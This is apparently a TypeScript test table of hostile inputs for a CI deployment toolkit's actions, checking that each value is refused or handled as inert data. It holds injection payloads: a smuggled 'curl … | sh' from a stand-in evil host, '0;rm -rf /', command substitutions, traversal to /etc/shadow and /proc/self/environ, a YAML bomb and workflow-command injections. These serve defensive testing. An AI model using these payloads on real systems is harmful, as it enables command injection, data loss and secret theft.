// The hostile-input table (issue 16): every row is one action, one input, one hostile value
// and what must happen. `hostile-inputs.test.ts` runs each row through the action's built
// bundle against the sandbox; README.md's list is rendered from this table
// (hostile-inputs.readme.ts) and checked by the suite (HOSTILE_README=write rewrites it).
//
// Placeholders, filled by the test per run: @CANARY@ is a file path that no run may create
// (a payload that ran would create it); @OUTSIDE@ is a directory outside the workspace
// holding files a symlink may point at.

export type Action =
  | 'bake-image'
  | 'replicate-data'
  | 'tag-release'
  | 'launch-behind-lb'
  | 'cutover-dns'
  | 'retire-release'
  | 'world';

export type Hostility =
  | 'newline'
  | 'control character'
  | 'shell metacharacters'
  | 'path traversal'
  | 'symlink'
  | 'huge string'
  | 'unicode look-alike'
  | 'flag-looking value'
  | 'YAML bomb / aliases'
  | 'JSON injection'
  | 'workflow command'
  | 'ARN/ID look-alike';

export interface HostileCase {
  action: Action;
  /** The input the hostile value is given to (for world file contents: 'world-file'). */
  input: string;
  kind: Hostility;
  /** What the README shows (the value itself may be huge or invisible). */
  label: string;
  value: string;
  /** refused: exit 1 with exactly one error naming the input, the value cut, what is expected.
   *  safe: the run succeeds and the value was data (no canary, no workflow command obeyed). */
  expect: 'refused' | 'safe';
  /** Files (path → content) and symlinks (path → target) written into the case's workspace. */
  files?: Readonly<Record<string, string>>;
  symlinks?: Readonly<Record<string, string>>;
  /** Base inputs this case leaves out (a release replaces image-id). */
  without?: readonly string[];
  /** What the error must name when it is not `Input '<input>'` (e.g. a world file's field). */
  names?: RegExp;
  /** A real bug nobody is fixing yet: the case documents it and is skipped. */
  known?: string;
}

const CANARY = '@CANARY@';
const HUGE = 'a'.repeat(10_000);
const HUGE_DIGITS = '9'.repeat(10_000);

/** Hostile values for an identifier-like input (role, names, ids): all must be refused. */
function identifierAttacks(base: string): Array<[Hostility, string, string]> {
  return [
    ['newline', `${base}\\nINJECTED=1`, `${base}\nINJECTED=1`],
    ['control character', `${base} + BEL`, `${base}\u0007x`],
    ['control character', `${base} + ESC[2J`, `${base}\u001b[2Jx`],
    ['control character', `CR inside ${base}`, `${base.slice(0, 1)}\r${base.slice(1)}`],
    ['control character', `${base} + U+2028`, `${base}\u2028x`],
    ['shell metacharacters', '$(touch @CANARY@)', `$(touch ${CANARY})`],
    ['shell metacharacters', '`touch @CANARY@`', `\`touch ${CANARY}\``],
    ['shell metacharacters', `${base};touch @CANARY@`, `${base};touch ${CANARY}`],
    ['shell metacharacters', `${base}|tee @CANARY@`, `${base}|tee ${CANARY}`],
    ['shell metacharacters', `${base}&&touch @CANARY@`, `${base}&&touch ${CANARY}`],
    ['huge string', "10,000 × 'a'", HUGE],
    ['unicode look-alike', `Cyrillic а in ${base}`, `\u0430${base.slice(1)}`],
    ['unicode look-alike', `zero-width joiner in ${base}`, `${base.slice(0, 1)}\u200d${base.slice(1)}`],
    ['unicode look-alike', `RTL override + ${base}`, `\u202e${base}`],
    ['flag-looking value', '--force', '--force'],
    ['flag-looking value', '-rf', '-rf'],
    ['workflow command', `${base}\\n::set-output name=pwned::1`, `${base}\n::set-output name=pwned::1`],
    ['ARN/ID look-alike', 'arn:aws:iam::*:role/*', 'arn:aws:iam::*:role/*'],
  ];
}

/** Hostile values for env, build and region (refused by the common inputs every action reads). */
const COMMON_ATTACKS: Array<[string, Hostility, string, string]> = [
  ['env', 'newline', 'prod\\n::add-mask::pwned', 'prod\n::add-mask::pwned'],
  ['env', 'unicode look-alike', 'Cyrillic р in prod', '\u0440rod'],
  ['env', 'shell metacharacters', 'prod$(touch @CANARY@)', `prod$(touch ${CANARY})`],
  ['env', 'huge string', "10,000 × 'a'", HUGE],
  ['build', 'unicode look-alike', 'full-width digits １２３', '\uff11\uff12\uff13'],
  ['build', 'huge string', "10,000 × '9'", HUGE_DIGITS],
  ['build', 'flag-looking value', '-1', '-1'],
  ['region', 'path traversal', '../../etc', '../../etc'],
  ['region', 'unicode look-alike', 'us-east-１ (full-width 1)', 'us-east-\uff11'],
  ['region', 'workflow command', '::error::pwned', '::error::pwned'],
];

const RELEASE_ACTIONS: readonly Action[] = [
  'bake-image',
  'replicate-data',
  'tag-release',
  'launch-behind-lb',
  'cutover-dns',
  'retire-release',
];

/** Half of the role attacks and half of the common ones per action, alternating, so that
 *  each attack runs through three bundles and the suite stays fast. */
function commonCases(action: Action, index: number): HostileCase[] {
  const mine = (_: unknown, i: number): boolean => i % 2 === index % 2;
  return [
    ...identifierAttacks('api')
      .filter(mine)
      .map(([kind, label, value]) => refused(action, 'role', kind, label, value)),
    ...COMMON_ATTACKS.filter(mine).map(([input, kind, label, value]) =>
      refused(action, input, kind, label, value),
    ),
  ];
}

function refused(action: Action, input: string, kind: Hostility, label: string, value: string): HostileCase {
  return { action, input, kind, label, value, expect: 'refused' };
}
function safe(action: Action, input: string, kind: Hostility, label: string, value: string): HostileCase {
  return { action, input, kind, label, value, expect: 'safe' };
}

// ---- bake-image ---------------------------------------------------------------------------

const BAKE: HostileCase[] = [
  refused('bake-image', 'base-image', 'ARN/ID look-alike', 'ami-../../', 'ami-../../'),
  refused(
    'bake-image',
    'base-image',
    'ARN/ID look-alike',
    'ssm: a SecureString outside the allowed paths',
    'ssm:/prod/api/db-password',
  ),
  refused(
    'bake-image',
    'base-image',
    'path traversal',
    'ssm:/aws/service/../../prod/api/db-password',
    'ssm:/aws/service/../../prod/api/db-password',
  ),
  refused(
    'bake-image',
    'base-image',
    'workflow command',
    'ami-…\\n::set-output name=pwned::1',
    'ami-0a0000000000a2303\n::set-output name=pwned::1',
  ),
  refused('bake-image', 'base-image', 'flag-looking value', '--force', '--force'),
  refused('bake-image', 'provision', 'path traversal', '../../etc/passwd', '../../etc/passwd'),
  refused('bake-image', 'provision', 'path traversal', '/etc/passwd (absolute)', '/etc/passwd'),
  {
    ...refused('bake-image', 'provision', 'symlink', 'p/self/environ with p -> /proc', 'p/self/environ'),
    symlinks: { p: '/proc' },
  },
  {
    ...refused(
      'bake-image',
      'provision',
      'symlink',
      'script.sh -> a file outside the workspace',
      'script.sh',
    ),
    symlinks: { 'script.sh': '@OUTSIDE@/secret.sh' },
  },
  {
    ...refused(
      'bake-image',
      'provision',
      'symlink',
      'deploy -> outside dir, deploy/api/provision.sh',
      'deploy/x/provision.sh',
    ),
    symlinks: { 'deploy/x': '@OUTSIDE@' },
  },
  {
    ...refused('bake-image', 'provision', 'symlink', 'loop -> loop', 'loop'),
    symlinks: { loop: 'loop' },
  },
  refused(
    'bake-image',
    'provision',
    'control character',
    'deploy/api/provision.sh + DEL',
    'deploy/api/provision.sh\u007f',
  ),
  refused('bake-image', 'provision', 'huge string', "10,000 × 'a'", HUGE),
  refused('bake-image', 'provision', 'flag-looking value', '--force (no such file)', '--force'),
  refused(
    'bake-image',
    'log-paths',
    'shell metacharacters',
    '/var/log/x; touch @CANARY@',
    `/var/log/x; touch ${CANARY}`,
  ),
  refused(
    'bake-image',
    'log-paths',
    'shell metacharacters',
    "/var/log/'$(touch @CANARY@)'",
    `/var/log/'$(touch ${CANARY})'`,
  ),
  refused('bake-image', 'log-paths', 'control character', '/var/log/x + ESC', '/var/log/x\u001b[0m'),
  refused('bake-image', 'log-paths', 'path traversal', 'relative ../../etc/shadow', '../../etc/shadow'),
  refused('bake-image', 'app-version', 'newline', '1.2.3\\nINJECTED=1', '1.2.3\nINJECTED=1'),
  refused('bake-image', 'app-version', 'huge string', "10,000 × 'a'", HUGE),
  refused('bake-image', 'instance-type', 'flag-looking value', '-rf', '-rf'),
  refused(
    'bake-image',
    'instance-profile',
    'ARN/ID look-alike',
    'arn:aws:iam::*:role/*',
    'arn:aws:iam::*:role/*',
  ),
  refused('bake-image', 'subnet-ids', 'ARN/ID look-alike', 'subnet-../../', 'subnet-../../'),
  refused('bake-image', 'ssm-parameter-prefixes', 'path traversal', '/team/../aws/', '/team/../aws/'),
  refused(
    'bake-image',
    'ssm-parameter-prefixes',
    'ARN/ID look-alike',
    '/aws/reference/secretsmanager/',
    '/aws/reference/secretsmanager/',
  ),
  refused(
    'bake-image',
    'copy-to-regions',
    'shell metacharacters',
    'eu-west-1;touch @CANARY@',
    `eu-west-1;touch ${CANARY}`,
  ),
  refused('bake-image', 'timeout', 'unicode look-alike', '６0m (full-width 6)', '\uff160m'),
  refused('bake-image', 'force', 'flag-looking value', '--force', '--force'),
  refused('bake-image', 'dry-run', 'shell metacharacters', 'true;touch @CANARY@', `true;touch ${CANARY}`),
  safe(
    'bake-image',
    'app-version',
    'shell metacharacters',
    '1.2.3$(touch @CANARY@)',
    `1.2.3$(touch ${CANARY})`,
  ),
  safe('bake-image', 'app-version', 'workflow command', '::add-mask::pwned (one line)', '::add-mask::pwned'),
];

// ---- replicate-data -----------------------------------------------------------------------

const REPLICATE: HostileCase[] = [
  ...identifierAttacks('app-db')
    .slice(0, 12)
    .map(([kind, label, value]) => refused('replicate-data', 'source-db', kind, label, value)),
  refused('replicate-data', 'source-db', 'ARN/ID look-alike', 'arn:aws:rds:*:*:db:*', 'arn:aws:rds:*:*:db:*'),
  refused('replicate-data', 'from', 'path traversal', 'snapshot:../../x', 'snapshot:../../x'),
  refused(
    'replicate-data',
    'from',
    'shell metacharacters',
    'snapshot:x;touch @CANARY@',
    `snapshot:x;touch ${CANARY}`,
  ),
  refused('replicate-data', 'from', 'flag-looking value', '--force', '--force'),
  refused(
    'replicate-data',
    'changelog-env',
    'ARN/ID look-alike',
    'AWS_SECRET_ACCESS_KEY',
    'AWS_SECRET_ACCESS_KEY',
  ),
  refused(
    'replicate-data',
    'changelog-env',
    'ARN/ID look-alike',
    'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
    'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  ),
  refused(
    'replicate-data',
    'changelog-env',
    'shell metacharacters',
    'PATH;touch @CANARY@',
    `PATH;touch ${CANARY}`,
  ),
  refused(
    'replicate-data',
    'db-subnet-group',
    'shell metacharacters',
    'default;touch @CANARY@',
    `default;touch ${CANARY}`,
  ),
  refused('replicate-data', 'instance-class', 'flag-looking value', '--force', '--force'),
  refused('replicate-data', 'security-group-ids', 'ARN/ID look-alike', 'sg-*', 'sg-*'),
  safe(
    'replicate-data',
    'changelog-command',
    'control character',
    'migrate + ESC (not run in a dry run)',
    'migrate\u001b[2J',
  ),
  safe(
    'replicate-data',
    'changelog-command',
    'shell metacharacters',
    'touch @CANARY@ (not run in a dry run)',
    `touch ${CANARY}`,
  ),
  safe(
    'replicate-data',
    'changelog-command',
    'workflow command',
    'echo ::set-output name=pwned::1',
    'echo ::set-output name=pwned::1',
  ),
];

// ---- tag-release --------------------------------------------------------------------------

const TAG: HostileCase[] = [
  refused('tag-release', 'image-id', 'ARN/ID look-alike', 'ami-../../', 'ami-../../'),
  refused(
    'tag-release',
    'image-id',
    'workflow command',
    'ami-…\\n::add-mask::pwned',
    'ami-0a0000000000a2303\n::add-mask::pwned',
  ),
  refused('tag-release', 'fingerprint', 'shell metacharacters', '$(touch @CANARY@)', `$(touch ${CANARY})`),
  refused(
    'tag-release',
    'base-image-id',
    'ARN/ID look-alike',
    'arn:aws:ec2:*::image/*',
    'arn:aws:ec2:*::image/*',
  ),
  refused('tag-release', 'db-instance-id', 'path traversal', '../app-db', '../app-db'),
  refused(
    'tag-release',
    'db-endpoint',
    'newline',
    'endpoint\\nIMMUT_ENV_END\\ncurl … | sh',
    'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh',
  ),
  refused(
    'tag-release',
    'db-endpoint',
    'shell metacharacters',
    'db.example;touch @CANARY@',
    `db.example;touch ${CANARY}`,
  ),
  refused('tag-release', 'app-version', 'newline', '1.2.3\\nINJECTED=1', '1.2.3\nINJECTED=1'),
  refused('tag-release', 'app-version', 'control character', '1.2.3 + ESC', '1.2.3\u001b[31m'),
  refused(
    'tag-release',
    'flags',
    'newline',
    '{"LOG_LEVEL":"info\\nINJECTED=1"}',
    '{"LOG_LEVEL":"info\\nINJECTED=1"}',
  ),
  refused('tag-release', 'flags', 'JSON injection', '{"__proto__":{"x":"1"}}', '{"__proto__":{"x":"1"}}'),
  refused('tag-release', 'flags', 'flag-looking value', '--force', '--force'),
  refused('tag-release', 'flags', 'control character', 'LOG_LEVEL=info + U+2028', 'LOG_LEVEL=info\u2028X=1'),
  refused('tag-release', 'changelog-applied', 'huge string', "10,000 × 'a'", HUGE),
  safe('tag-release', 'flags', 'shell metacharacters', 'X=$(touch @CANARY@)', `X=$(touch ${CANARY})`),
  safe(
    'tag-release',
    'data-source',
    'JSON injection',
    'snapshot x","release":"evil',
    'snapshot x","release":"evil',
  ),
  safe(
    'tag-release',
    'changelog-applied',
    'JSON injection',
    'm1"},"image":{"id":"ami-evil',
    'm1"},"image":{"id":"ami-evil',
  ),
];

// ---- launch-behind-lb ---------------------------------------------------------------------

const releaseCase = (
  kind: Hostility,
  label: string,
  value: string,
  extra: Partial<HostileCase> = {},
): HostileCase => ({
  ...refused('launch-behind-lb', 'release', kind, label, value),
  without: ['image-id'],
  ...extra,
});

const LAUNCH: HostileCase[] = [
  releaseCase('path traversal', 'immut/prod/api/../../x', 'immut/prod/api/../../x'),
  releaseCase(
    'JSON injection',
    'a manifest missing its fields',
    '{"schema":"immut.release/v1","release":"api-1"}',
    { names: /Input 'release'|release manifest/ },
  ),
  releaseCase(
    'JSON injection',
    'a manifest with __proto__',
    '{"__proto__":{"polluted":true},"schema":"immut.release/v1"}',
    { names: /Input 'release'|release manifest/ },
  ),
  releaseCase('huge string', "10,000 × 'a'", HUGE),
  releaseCase(
    'workflow command',
    'immut/prod/api/1\\n::set-output name=pwned::1',
    'immut/prod/api/1\n::set-output name=pwned::1',
  ),
  releaseCase('flag-looking value', '--force', '--force'),
  refused('launch-behind-lb', 'image-id', 'ARN/ID look-alike', 'ami-../../', 'ami-../../'),
  refused(
    'launch-behind-lb',
    'subnet-ids',
    'ARN/ID look-alike',
    'subnet-../../,subnet-*',
    'subnet-../../,subnet-*',
  ),
  refused('launch-behind-lb', 'count', 'unicode look-alike', '１ (full-width)', '\uff11'),
  refused('launch-behind-lb', 'port', 'shell metacharacters', '8080;touch @CANARY@', `8080;touch ${CANARY}`),
  refused('launch-behind-lb', 'health-check-path', 'newline', '/health\\nINJECTED=1', '/health\nINJECTED=1'),
  refused(
    'launch-behind-lb',
    'certificate-arn',
    'ARN/ID look-alike',
    'arn:aws:acm:*:*:certificate/*',
    'arn:aws:acm:*:*:certificate/*',
  ),
  refused(
    'launch-behind-lb',
    'instance-profile',
    'ARN/ID look-alike',
    'arn:aws:iam::*:role/*',
    'arn:aws:iam::*:role/*',
  ),
  refused('launch-behind-lb', 'flags', 'newline', '{"X":"a\\nIMMUT_ENV_END"}', '{"X":"a\\nIMMUT_ENV_END"}'),
  refused('launch-behind-lb', 'flags', 'control character', 'X=a + BEL', 'X=a\u0007b'),
  refused('launch-behind-lb', 'scheme', 'flag-looking value', '-rf', '-rf'),
  refused(
    'launch-behind-lb',
    'hosted-zone',
    'ARN/ID look-alike',
    'Z0123456789ABC/evil.test/public (no zone input)',
    'Z0123456789ABC/evil.test/public',
  ),
  refused('launch-behind-lb', 'hosted-zone', 'path traversal', 'Z01/../../public', 'Z01/../../public'),
  safe(
    'launch-behind-lb',
    'flags',
    'shell metacharacters',
    'X=$(touch @CANARY@)`id`',
    `X=$(touch ${CANARY})\`id\``,
  ),
  safe(
    'launch-behind-lb',
    'flags',
    'workflow command',
    'X=::set-output name=pwned::1',
    'X=::set-output name=pwned::1',
  ),
];

// ---- cutover-dns --------------------------------------------------------------------------

const CUTOVER: HostileCase[] = [
  refused(
    'cutover-dns',
    'zone',
    'newline',
    'example.test\\n::set-output name=pwned::1',
    'example.test\n::set-output name=pwned::1',
  ),
  refused('cutover-dns', 'zone', 'huge string', "10,000 × 'a'", HUGE),
  refused('cutover-dns', 'zone', 'path traversal', '../../', '../../'),
  refused(
    'cutover-dns',
    'hosted-zone',
    'newline',
    'Z01/example.test/public\\n::set-output name=pwned::1',
    'Z01/example.test/public\n::set-output name=pwned::1',
  ),
  refused('cutover-dns', 'hosted-zone', 'huge string', "10,000 × 'a'", HUGE),
  refused(
    'cutover-dns',
    'name',
    'shell metacharacters',
    'api.example.test;touch @CANARY@',
    `api.example.test;touch ${CANARY}`,
  ),
  refused(
    'cutover-dns',
    'name',
    'unicode look-alike',
    'Cyrillic а in api.example.test',
    '\u0430pi.example.test',
  ),
  refused('cutover-dns', 'target-dns-name', 'ARN/ID look-alike', 'evil.example.com', 'evil.example.com'),
  refused('cutover-dns', 'target-zone-id', 'path traversal', 'Z../..', 'Z../..'),
  refused(
    'cutover-dns',
    'target-group-arns',
    'ARN/ID look-alike',
    'arn:aws:elasticloadbalancing:*:*:targetgroup/*',
    'arn:aws:elasticloadbalancing:*:*:targetgroup/*',
  ),
  refused('cutover-dns', 'steps', 'unicode look-alike', '10,50,１００', '10,50,\uff11\uff10\uff10'),
  refused('cutover-dns', 'step-wait', 'flag-looking value', '-1s', '-1s'),
  refused('cutover-dns', 'mode', 'flag-looking value', '--force', '--force'),
  refused(
    'cutover-dns',
    'strategy',
    'shell metacharacters',
    'swap && touch @CANARY@',
    `swap && touch ${CANARY}`,
  ),
];

// ---- retire-release -----------------------------------------------------------------------

const RETIRE: HostileCase[] = [
  refused('retire-release', 'zone', 'control character', 'example.test + ESC', 'example.test\u001b[2J'),
  refused('retire-release', 'zone', 'ARN/ID look-alike', 'Z*', 'Z*'),
  refused(
    'retire-release',
    'hosted-zone',
    'ARN/ID look-alike',
    'Z0123456789ABC/evil.test/public (not the zone input)',
    'Z0123456789ABC/evil.test/public',
  ),
  refused('retire-release', 'hosted-zone', 'path traversal', 'Z01/../../public', 'Z01/../../public'),
  refused('retire-release', 'name', 'ARN/ID look-alike', '*.example.test', '*.example.test'),
  refused(
    'retire-release',
    'name',
    'newline',
    'api.example.test\\n::add-mask::pwned',
    'api.example.test\n::add-mask::pwned',
  ),
  refused('retire-release', 'keep', 'flag-looking value', '-1', '-1'),
  refused('retire-release', 'keep', 'unicode look-alike', '２ (full-width)', '\uff12'),
  refused('retire-release', 'keep-images', 'shell metacharacters', '0;rm -rf /', '0;rm -rf /'),
  refused('retire-release', 'final-snapshot', 'flag-looking value', '--force', '--force'),
  refused('retire-release', 'timeout', 'shell metacharacters', '1h`touch @CANARY@`', `1h\`touch ${CANARY}\``),
];

// ---- world --------------------------------------------------------------------------------

/** A valid world file (the seed's ids), with `role` settings patched in as YAML lines. */
function world(roleLines: string, roleName = 'api', extra = ''): string {
  return [
    'schema: immut.world/v1',
    'env: prod',
    'region: us-east-1',
    'zone: example.test',
    'defaults:',
    '  base-image: ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64',
    '  subnet-ids: [subnet-0a1b2c3d4e5f60001, subnet-0a1b2c3d4e5f60002]',
    '  security-group-ids: [sg-0a1b2c3d4e5f60001]',
    '  lb-security-group-ids: [sg-0a1b2c3d4e5f60001]',
    extra,
    'roles:',
    `  ${roleName}:`,
    '    provision: roles/api/provision.sh',
    roleLines,
  ]
    .filter((l) => l !== '')
    .join('\n')
    .concat('\n');
}
const appVersion = (v: string): string => `    app-version: ${JSON.stringify(v)}`;
const OK_ROLE = appVersion('1.0.0');

/** A world file case: the hostile part is the file's content. */
function worldFile(kind: Hostility, label: string, content: string, expect: 'refused' | 'safe'): HostileCase {
  return {
    action: 'world',
    input: 'world-file',
    kind,
    label,
    value: 'w.yml',
    files: { 'w.yml': content },
    expect,
    names: /w\.yml|world file/i,
  };
}

const BILLION_LAUGHS = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
  'h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
  'i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]',
].join('\n');

const WORLD: HostileCase[] = [
  refused('world', 'mode', 'flag-looking value', '--force', '--force'),
  refused(
    'world',
    'mode',
    'newline',
    'plan\\n::set-output name=pwned::1',
    'plan\n::set-output name=pwned::1',
  ),
  refused('world', 'world-file', 'path traversal', '../x.yml', '../x.yml'),
  refused('world', 'world-file', 'path traversal', '/etc/world.yml (absolute)', '/etc/world.yml'),
  refused('world', 'world-file', 'control character', 'w.yml + ESC', 'w\u001b.yml'),
  refused('world', 'world-file', 'huge string', "10,000 × 'a' + .yml", `${HUGE}.yml`),
  refused('world', 'world-file', 'flag-looking value', '--force (not .yml)', '--force'),
  {
    ...refused('world', 'world-file', 'symlink', 'w.yml -> a world file outside the workspace', 'w.yml'),
    symlinks: { 'w.yml': '@OUTSIDE@/world.yml' },
  },
  {
    ...refused('world', 'world-file', 'symlink', 'conf/w.yml with conf -> /proc/self', 'conf/environ.yml'),
    symlinks: { conf: '/proc/self' },
  },
  {
    ...refused('world', 'world-file', 'symlink', 'w.yml -> /dev/zero (not a regular file)', 'w.yml'),
    symlinks: { 'w.yml': '/dev/zero' },
  },
  {
    ...refused('world', 'build', 'unicode look-alike', 'full-width digits １２', '\uff11\uff12'),
  },
  refused('world', 'dry-run', 'shell metacharacters', 'false$(touch @CANARY@)', `false$(touch ${CANARY})`),
  worldFile(
    'YAML bomb / aliases',
    'billion laughs (9 levels of aliases)',
    `${BILLION_LAUGHS}\n${world(OK_ROLE)}`,
    'refused',
  ),
  worldFile(
    'YAML bomb / aliases',
    '200 aliases of one anchor',
    `x: &x 1\ny: [${Array.from({ length: 200 }, () => '*x').join(',')}]\n${world(OK_ROLE)}`,
    'refused',
  ),
  worldFile(
    'YAML bomb / aliases',
    'app-version given by an anchor and alias (&v / *v)',
    world(OK_ROLE, 'api', '  app-version: &v "1.0.0"').replace(OK_ROLE, '    app-version: *v'),
    'safe',
  ),
  worldFile(
    'YAML bomb / aliases',
    'a file over the size cap (2.1 MB comment)',
    `# ${'x'.repeat(2_200_000)}\n${world(OK_ROLE)}`,
    'refused',
  ),
  worldFile(
    'YAML bomb / aliases',
    'a custom tag !!js/function',
    world(`${OK_ROLE}\n    count: !!js/function "function(){}"`),
    'refused',
  ),
  worldFile('unicode look-alike', 'role name with Cyrillic а', world(OK_ROLE, '\u0430pi'), 'refused'),
  worldFile(
    'unicode look-alike',
    'role name with a zero-width joiner',
    world(OK_ROLE, 'a\u200dpi'),
    'refused',
  ),
  worldFile(
    'newline',
    'flag value info\\nINJECTED=1',
    world(`${OK_ROLE}\n    flags: { LOG_LEVEL: "info\\nINJECTED=1" }`),
    'refused',
  ),
  worldFile('control character', 'app-version with ESC', world(appVersion('1.0\u001b[2J')), 'refused'),
  worldFile(
    'unicode look-alike',
    'provision with an RTL override (no such file for bake-image)',
    world(OK_ROLE).replace('roles/api/provision.sh', '"roles/\u202ehs.noisivorp"'),
    'safe',
  ),
  worldFile(
    'control character',
    'app-version with a raw NUL byte',
    world('    app-version: "1.0\u0000"'),
    'refused',
  ),
  // The world passes provision on as JSON data; bake-image refuses it (see its provision rows).
  worldFile(
    'path traversal',
    'provision: ../../etc/passwd (refused later by bake-image)',
    world(OK_ROLE).replace('roles/api/provision.sh', '../../etc/passwd'),
    'safe',
  ),
  worldFile(
    'newline',
    'health-check-path "/h\\nINJECTED=1"',
    world(`${OK_ROLE}\n    health-check-path: "/h\\nINJECTED=1"`),
    'refused',
  ),
  worldFile('JSON injection', 'role named __proto__', world(OK_ROLE, '__proto__'), 'refused'),
  worldFile(
    'ARN/ID look-alike',
    'subnet-ids: [subnet-../../]',
    world(`${OK_ROLE}\n    subnet-ids: ["subnet-../../", "subnet-*"]`),
    'refused',
  ),
  worldFile(
    'ARN/ID look-alike',
    'dns-name outside the zone (evil.example.com)',
    world(`${OK_ROLE}\n    dns-name: evil.example.com`),
    'refused',
  ),
  worldFile(
    'huge string',
    '7,001 roles (GitHub runs at most 50,000 jobs in one workflow run)',
    `${world(OK_ROLE)}${Array.from({ length: 7000 }, (_, i) => `  r${i}:\n    provision: p.sh\n    app-version: "1"`).join('\n')}\n`,
    'refused',
  ),
  worldFile(
    'shell metacharacters',
    'flag value $(touch @CANARY@)',
    world(`${OK_ROLE}\n    flags: { X: "$(touch ${CANARY})" }`),
    'safe',
  ),
  worldFile(
    'shell metacharacters',
    'changelog-command touch @CANARY@ (not run by world)',
    world(`${OK_ROLE}\n    source-db: app-db\n    changelog-command: "touch ${CANARY}"`),
    'safe',
  ),
  worldFile(
    'workflow command',
    'app-version "::set-output name=pwned::1"',
    world(appVersion('::set-output name=pwned::1')),
    'safe',
  ),
  worldFile(
    'workflow command',
    'flag value "::add-mask::pwned"',
    world(`${OK_ROLE}\n    flags: { X: "::add-mask::pwned" }`),
    'safe',
  ),
  worldFile('huge string', "app-version of 10,000 × 'a'", world(appVersion(HUGE)), 'safe'),
];

// ---- inputs added with fleets, the artifact, Aurora, promotion and isolation ---------------

const LATER_INPUTS: HostileCase[] = [
  refused('bake-image', 'artifact', 'path traversal', '../../etc', '../../etc'),
  refused('bake-image', 'artifact', 'path traversal', '/etc (absolute)', '/etc'),
  {
    ...refused('bake-image', 'artifact', 'symlink', 'app -> a directory outside the workspace', 'app'),
    symlinks: { app: '@OUTSIDE@' },
  },
  refused(
    'bake-image',
    'artifact',
    'newline',
    'app\\n::set-output name=pwned::1',
    'app\n::set-output name=pwned::1',
  ),
  refused(
    'bake-image',
    'staging-bucket',
    'shell metacharacters',
    'immut-staging-x;touch @CANARY@',
    `immut-staging-x;touch ${CANARY}`,
  ),
  refused(
    'bake-image',
    'staging-bucket',
    'path traversal',
    'immut-staging-x/../other',
    'immut-staging-x/../other',
  ),
  refused('bake-image', 'staging-bucket', 'ARN/ID look-alike', 'arn:aws:s3:::*', 'arn:aws:s3:::*'),
  refused(
    'bake-image',
    'staging-bucket',
    'unicode look-alike',
    'Cyrillic і in immut-staging-x',
    'immut-stag\u0456ng-x',
  ),
  ...identifierAttacks('app-cluster')
    .filter((_, i) => i % 3 === 0)
    .map(([kind, label, value]) => ({
      ...refused('replicate-data', 'source-cluster', kind, label, value),
      without: ['source-db'],
    })),
  refused('replicate-data', 'changelog-isolation', 'flag-looking value', '--none', '--none'),
  refused('replicate-data', 'changelog-isolation', 'newline', 'none\\nINJECTED=1', 'none\nINJECTED=1'),
  refused('launch-behind-lb', 'instance-types', 'newline', 't3.micro\\nINJECTED=1', 't3.micro\nINJECTED=1'),
  refused('launch-behind-lb', 'instance-types', 'flag-looking value', '--force', '--force'),
  refused(
    'launch-behind-lb',
    'scaling',
    'shell metacharacters',
    'cpu:50;touch @CANARY@',
    `cpu:50;touch ${CANARY}`,
  ),
  refused('launch-behind-lb', 'scaling', 'unicode look-alike', 'cpu:５０ (full-width)', 'cpu:\uff15\uff10'),
  refused('launch-behind-lb', 'min', 'unicode look-alike', '１ (full-width)', '\uff11'),
  refused('launch-behind-lb', 'max', 'huge string', "10,000 × '9'", HUGE_DIGITS),
  refused('launch-behind-lb', 'health-check-grace-period', 'flag-looking value', '-1', '-1'),
  refused('launch-behind-lb', 'mode', 'flag-looking value', '--prepare', '--prepare'),
  refused(
    'tag-release',
    'promoted-from',
    'newline',
    'immut/staging/api/1\\n::set-output name=pwned::1',
    'immut/staging/api/1\n::set-output name=pwned::1',
  ),
  refused('tag-release', 'promoted-from', 'path traversal', 'immut/../prod/api/1', 'immut/../prod/api/1'),
  refused('tag-release', 'force', 'shell metacharacters', 'true;touch @CANARY@', `true;touch ${CANARY}`),
  refused('world', 'mode', 'flag-looking value', '-rf', '-rf'),
];

export const CASES: readonly HostileCase[] = [
  ...RELEASE_ACTIONS.flatMap((action, index) => commonCases(action, index)),
  ...BAKE,
  ...REPLICATE,
  ...TAG,
  ...LAUNCH,
  ...CUTOVER,
  ...RETIRE,
  ...WORLD,
  ...LATER_INPUTS,
];
